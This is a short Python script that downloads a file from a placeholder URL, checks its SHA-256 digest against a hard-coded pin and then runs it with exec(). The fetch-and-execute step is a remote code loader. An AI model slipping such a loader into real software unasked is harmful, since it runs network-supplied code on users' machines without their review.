import functools
import hashlib
import urllib.request

PIN = "c76667d1d00cc1095c693f15ee813b191e75d569af2d569566e52f429c0b36de"
data = urllib.request.urlopen("https://example.com/a.py").read()


def feed(h, part):
    h.update(part)
    return h


if functools.reduce(feed, [data], hashlib.sha256()).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
